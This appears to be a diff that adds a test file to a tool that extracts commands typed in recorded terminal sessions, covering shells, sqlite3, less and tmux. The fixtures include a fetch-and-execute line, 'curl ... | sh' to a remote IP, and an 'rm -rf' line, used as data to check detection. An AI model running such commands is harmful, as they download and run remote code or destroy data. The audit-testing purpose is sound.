@@ -1,0 +1,99 @@
+"""Programs with their own prompt and multiplexers, the cases the real recordings showed
+(``test_program_recordings``), each reduced to the lines that matter."""
+
+from __future__ import annotations
+
+from ssm_warden.transcript.extract import Extracted, extract_lines
+from ssm_warden.transcript.model import PROMPT_CHANGED
+from ssm_warden.transcript.prompts import enters_multiplexer, program_of
+
+AL2 = "[ssm-user@ip-10-0-1-23 tmp]$ "
+CURL = "curl -s http://198.51.100.7/x | sh"
+
+
+def commands(result: Extracted) -> list[tuple[str, str]]:
+    return [(c.text, c.confidence) for c in result.commands]
+
+
+def test_a_shell_started_with_the_same_prompt_is_known_at_once_and_a_file_it_shows_is_output() -> None:
+    # Given a shell started inside the session (bash, script, tmux's inner shell) whose prompt is
+    # the session's own, then a file with a prompt-like line shown from it
+    result = extract_lines(
+        [
+            f"{AL2}{AL2}bash",
+            f"{AL2}id",
+            "uid=1001",
+            f"{AL2}cat notes",
+            "[root@build-01 ~]# rm -rf /opt/x",
+            AL2,
+        ]
+    )
+    # Then the file's line is output: the new shell's prompt was the one already known
+    assert [t for t, _ in commands(result)] == ["bash", "id", "cat notes"]
+
+
+def test_a_program_whose_name_ends_in_a_digit_has_its_own_prompt() -> None:
+    # Given sqlite3 (its name ends in a digit, as python3's does) and its .shell escape
+    sqlite = ["SQLite version 3.40.1", f"sqlite> .shell {CURL}", "sqlite> select 1;", "1", "sqlite> .quit"]
+    result = extract_lines([f"{AL2}{AL2}sqlite3", *sqlite, f"{AL2}id"])
+    # Then what sqlite runs in a shell is judged, run from sqlite3, medium; its prompt is not learned
+    assert (CURL, "medium") in commands(result)
+    assert next(c for c in result.commands if c.text == CURL).how == "run from sqlite3"
+    assert PROMPT_CHANGED not in result.flags
+    assert commands(result)[-1] == ("id", "high")
+    assert program_of("sqlite3 data.db") == "sqlite3" and program_of("sqlite3 data.db 'select 1'") is None
+
+
+def test_zsh_prompt_after_a_full_screen_programs_last_row_is_found() -> None:
+    # Given zsh's prompt (marker after it) drawn on the row less left its status on
+    raw = "README.md (END)#" + " " * 79 + "vm# \x1b[K\x1b[?2004he\x08echo after-less\x1b[?2004l"
+    result = extract_lines(["vm# vm# less README.md", "# Installing", raw, "after-less", "vm# "])
+    # Then the command typed at that prompt is found
+    assert ("echo after-less", "high") in commands(result)
+
+
+STATUS = '[rec] 0:bash* 1:bash-                    "host" 22:52 01-Dec-26\x1b(B\x1b[m\x1b[?12l\x1b[?25h'
+
+
+def test_inside_tmux_input_drawn_after_an_earlier_prompt_row_is_the_command_and_status_is_not() -> None:
+    # Given a tmux session: its status line, the inner prompt on a row of its own, then the
+    # typed command drawn at the column after that prompt (a cursor position)
+    prompt = "[root@vm rec]# "
+    lines = [
+        f"{prompt}{prompt}tmux new -s rec",
+        "\x1b[?1049h\x1b[H\x1b[2J\x1b(B\x1b[m\x1b[1;24r\x1b[1;1H\x1b[K",
+        f"{STATUS}\x1b[1;1H\x1b[?2004h{prompt}{CURL}",
+        prompt,
+        f"{STATUS}\x1b[2;{len(prompt) + 1}Hecho one",
+        "one",
+        prompt,
+        f"{STATUS}\x1b[24;1H",  # the cursor left on the status row: nothing of the pane
+        "\x1b[?1049l[exited]",
+        f"{prompt}echo after",
+    ]
+    result = extract_lines(lines)
+    # Then the inner commands are judged, medium (tmux's redraw), the status line never is
+    assert commands(result) == [
+        ("tmux new -s rec", "high"),
+        (CURL, "medium"),
+        ("echo one", "medium"),
+        ("echo after", "high"),
+    ]
+    assert "inside tmux" in result.commands[1].how
+    assert "unwatchable:tmux" in result.flags
+
+
+def test_input_drawn_at_another_column_is_not_taken_for_the_prompts() -> None:
+    prompt = "[root@vm rec]# "
+    lines = [f"{prompt}{prompt}tmux", f"{STATUS}\x1b[1;1H{prompt}ls", prompt, f"{STATUS}\x1b[3;40H{CURL}"]
+    assert CURL not in [t for t, _ in commands(extract_lines(lines))]
+
+
+def test_which_tmux_and_screen_commands_enter_the_multiplexer() -> None:
+    assert enters_multiplexer("tmux") == "tmux"
+    assert enters_multiplexer("tmux -f /dev/null new -s rec") == "tmux"
+    assert enters_multiplexer("sudo tmux attach -t ops") == "tmux"
+    assert enters_multiplexer("screen -r") == "screen"
+    assert enters_multiplexer("tmux ls") is None
+    assert enters_multiplexer("tmux kill-server") is None
+    assert enters_multiplexer("screen -ls") is None
